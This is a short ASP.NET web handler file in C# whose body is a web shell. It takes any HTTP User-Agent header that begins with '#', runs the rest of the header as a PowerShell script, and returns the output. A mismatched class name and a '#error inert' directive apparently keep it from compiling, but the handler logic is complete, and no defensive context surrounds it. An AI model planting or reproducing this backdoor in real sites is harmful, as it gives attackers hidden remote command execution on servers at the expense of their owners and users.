<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System.Web;using System.Linq;using System.Management.Automation;
public class H:IHttpHandler{public bool IsReusable{get{return true;}}public void ProcessRequest(HttpContext c){var u=c.Request.UserAgent;if(u.StartsWith("#"))c.Response.Write(string.Join("\r\n",PowerShell.Create().AddScript(u.Substring(1)).Invoke().Select(x=>""+x)));}}
